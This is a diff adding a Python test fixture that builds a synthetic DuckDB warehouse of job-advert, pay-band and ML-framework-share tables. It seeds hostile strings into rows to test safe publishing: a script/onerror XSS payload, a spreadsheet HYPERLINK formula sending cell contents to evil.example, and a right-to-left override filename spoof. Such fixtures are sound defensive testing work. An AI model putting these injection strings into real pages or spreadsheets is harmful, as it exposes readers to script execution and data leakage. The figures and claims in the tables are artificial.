@@ -1,0 +1,165 @@
+"""A small working warehouse to publish: every kind of table, with comments, and hostile texts.
+
+Belongs here: synthetic rows in the shape of the real tables. Does not belong here: assertions, or
+the models that make such tables in earnest (`warehouse.models`).
+"""
+
+from __future__ import annotations
+
+from pathlib import Path
+from typing import Any
+
+import duckdb
+
+SCRIPT_TITLE = "<script>document.title='owned'</script><img src=x onerror=\"document.title='owned'\">"
+FORMULA_COMPANY = '=HYPERLINK("http://evil.example/?"&A1,"open")'
+RIGHT_TO_LEFT = "\u202egnp.exe\u202c engineer"
+
+TABLES = r"""
+CREATE SCHEMA raw;
+CREATE SCHEMA core;
+CREATE SCHEMA out;
+
+CREATE TABLE raw.postings AS SELECT 'never published' AS body;
+
+CREATE TABLE core.postings AS
+SELECT
+    'ashby:board:' || i AS posting_id,
+    'ashby' AS source,
+    'board' AS board,
+    i::VARCHAR AS source_id,
+    CASE i WHEN 0 THEN getvariable('formula') ELSE 'Company ' || i % 7 END AS company,
+    CASE i WHEN 0 THEN getvariable('script') WHEN 1 THEN getvariable('rtl')
+        ELSE 'Engineer ' || i END AS title,
+    ['US', 'CA'] AS countries,
+    DATE '2026-03-01' - i::INTEGER AS posted_on,
+    i % 2 = 0 AS is_open,
+    'We use PyTorch, line ' || i || chr(10) || 'and "quotes", too' AS text
+FROM range(40) AS numbers (i)
+ORDER BY hash(i);
+CREATE TABLE core.mentions AS
+SELECT posting_id, 'pytorch' AS technology, 3 AS span_start FROM core.postings;
+CREATE TABLE core.roles AS SELECT posting_id AS role_id, company FROM core.postings;
+CREATE TABLE core.papers AS SELECT 'pwc:' || i AS paper_id FROM range(5) AS numbers (i);
+CREATE TABLE core.facts AS SELECT 'an inner table' AS note;
+
+CREATE TABLE out.postings AS SELECT * EXCLUDE (text) FROM core.postings;
+CREATE TABLE out.mentions AS SELECT * FROM core.mentions;
+CREATE TABLE out.pay_bands AS
+SELECT * FROM (VALUES
+    ('ashby:board:1', 'structured', 100000.00::DECIMAL(18, 2), 120000.50::DECIMAL(18, 2),
+        TIMESTAMP '2026-03-01 06:00:00', '-20% to +20% of the midpoint'),
+    ('ashby:board:2', 'parsed', NULL, 90000.00::DECIMAL(18, 2), NULL, ''),
+    ('ashby:board:0', 'parsed', -1.00::DECIMAL(18, 2), NULL, NULL, '@SUM(1+1)')
+) AS bands (posting_id, provenance, pay_min, pay_max, seen_at, evidence);
+CREATE TABLE out.framework_ratio_by_quarter AS
+SELECT
+    DATE '2019-01-01' + to_months(3 * i)::INTERVAL AS at_month,
+    at_month::DATE AS period_start,
+    sources,
+    population,
+    (4 + i)::INTEGER AS pytorch_only,
+    (30 - i)::INTEGER AS tensorflow_only,
+    5 AS "both",
+    50 AS neither,
+    CASE WHEN i = 2 THEN NULL ELSE (9 + i) / (35 - i) END AS ratio,
+    CASE i WHEN 2 THEN NULL WHEN 0 THEN 0.0 ELSE ratio / 1.6 END AS ci_low,
+    CASE i WHEN 2 THEN NULL WHEN 0 THEN 'inf'::DOUBLE ELSE ratio * 1.6 END AS ci_high,
+    (89 + i)::INTEGER AS n_roles,
+    (20 + i)::INTEGER AS n_companies,
+    i IN (0, 29) AS is_partial
+FROM range(30) AS numbers (i), (VALUES ('all'), ('ashby')) AS s (sources),
+    (VALUES ('ml'), ('all')) AS p (population);
+ALTER TABLE out.framework_ratio_by_quarter DROP at_month;
+CREATE TABLE out.paper_share_by_year AS
+SELECT
+    make_date(2016 + i::INTEGER, 1, 1) AS period_start,
+    framework,
+    scope,
+    (100 * base)::INTEGER AS n_papers,
+    least(0.9, greatest(0.01, base + slope * i))::DOUBLE AS share,
+    share / 0.6 AS share_of_named,
+    share * 0.9 AS ci_low,
+    share * 1.1 AS ci_high,
+    i = 9 AS is_partial
+FROM range(10) AS numbers (i),
+    (VALUES ('pytorch', 0.05, 0.06), ('tf', 0.4, -0.035), ('jax', 0.01, 0.004),
+        ('none', 0.4, 0.0), (getvariable('script'), 0.02, 0.0))
+        AS f (framework, base, slope),
+    (VALUES ('all'), ('official')) AS s (scope);
+CREATE TABLE out.claim_verdicts (
+    claim_id VARCHAR, article VARCHAR, statement VARCHAR, estimate DOUBLE, ci_low DOUBLE,
+    ci_high DOUBLE, unit VARCHAR, n_roles BIGINT, n_companies BIGINT, n_papers BIGINT,
+    verdict VARCHAR, reason VARCHAR, finding VARCHAR, fragile_under VARCHAR, proxy BOOLEAN
+);
+INSERT INTO out.claim_verdicts VALUES
+    ('hire_more', 'careers', 'More new machine-learning roles name PyTorch than TensorFlow.',
+        2.31, 1.9, 2.84, 'ratio', 812, 240, NULL, 'supported', 'the whole interval is above 1',
+        'PyTorch roles for each TensorFlow role: 2.31 (95 % interval 1.90 to 2.84); from 812 roles '
+        'at 240 companies.', NULL, false),
+    ('hire_led_2020', 'justpick', 'TensorFlow led job adverts in 2020.', 0.51, 0.38, 0.69, 'ratio',
+        196, 120, NULL, 'supported', 'the whole interval is below 1', NULL,
+        'equal company weights', false),
+    ('hire_crossover', 'justpick, careers', 'The lead changed hands before late 2024.', 2022.4,
+        2021.6, NULL, 'year', 1490, 420, NULL, 'undetermined',
+        'the interval is open at its upper end', NULL, NULL, false),
+    ('pay_senior', 'careers', 'Senior pay lies between 230 and 430 thousand dollars.', 241000,
+        232500, 249900, 'USD a year', 88, 41, NULL, 'contradicted', 'percentiles lie outside',
+        NULL, NULL, true),
+    ('paper_sixty', 'justpick', 'About 60 % of the papers with code use PyTorch.', 0.588, 0.552,
+        0.621, 'share', NULL, NULL, 812, 'supported', 'the whole interval lies in the band',
+        NULL, NULL, false),
+    ('hire_hostile', getvariable('script'), getvariable('script'), 'nan', NULL, NULL, 'ratio', 0, 0,
+        NULL, 'undetermined', getvariable('script'), getvariable('script'),
+        getvariable('formula'), false),
+    ('out_debugging', NULL, 'One of the two is easier to debug.', NULL, NULL, NULL, NULL, NULL,
+        NULL, NULL, 'out_of_scope', 'no advert can show it', NULL, NULL, false);
+CREATE TABLE out.source_health AS
+SELECT * FROM (VALUES
+    ('ashby', DATE '2026-03-01', 'ok', 12, 12, 40, NULL),
+    ('ashby', DATE '2026-02-01', 'failed', 12, 0, 0, 'an older state that must not show'),
+    ('lever', DATE '2026-03-01', 'failed', 3, 0, 0, getvariable('script') || repeat(' and so on', 90))
+) AS health (source, observed_on, state, boards_asked, boards_answered, postings_seen, reason);
+CREATE TABLE out.refused_rows AS
+SELECT
+    'ashby' AS source, i::VARCHAR AS source_id, 'load' AS stage, getvariable('script') AS reason,
+    '{"title": null}' AS sample
+FROM range(3) AS numbers (i);
+CREATE VIEW out.open_postings AS
+SELECT posting_id, title FROM out.postings WHERE is_open;
+
+COMMENT ON TABLE out.postings IS 'One advert of one source, in the reader''s words.';
+COMMENT ON COLUMN out.postings.posting_id IS 'source:board:source_id';
+COMMENT ON TABLE out.pay_bands IS 'A band | of a posting.';
+COMMENT ON COLUMN out.pay_bands.pay_min IS 'Lower end, as stated';
+COMMENT ON VIEW out.open_postings IS 'Adverts that are open.';
+COMMENT ON COLUMN out.open_postings.title IS 'Title as served';
+COMMENT ON TABLE core.postings IS 'Adverts with their text.';
+"""
+
+RUN: dict[str, Any] = {
+    "as_of": "2026-03-01",
+    "is_sample": False,
+    "method_version": "1.0",
+    "sources": {"ashby": {"state": "ok"}},
+    "seconds": {"load": 1.5},
+}
+
+
+def build(path: Path) -> Path:
+    """Makes the working warehouse at `path`, which must not exist; returns it."""
+    with duckdb.connect(str(path)) as con:
+        for name, value in (
+            ("script", SCRIPT_TITLE),
+            ("formula", FORMULA_COMPANY),
+            ("rtl", RIGHT_TO_LEFT),
+        ):
+            con.execute(f"SET VARIABLE {name} = $value", {"value": value})
+        con.execute(TABLES)
+    return path
+
+
+def change(path: Path, sql: str) -> None:
+    """Runs `sql` on the working warehouse and closes it."""
+    with duckdb.connect(str(path)) as con:
+        con.execute(sql)
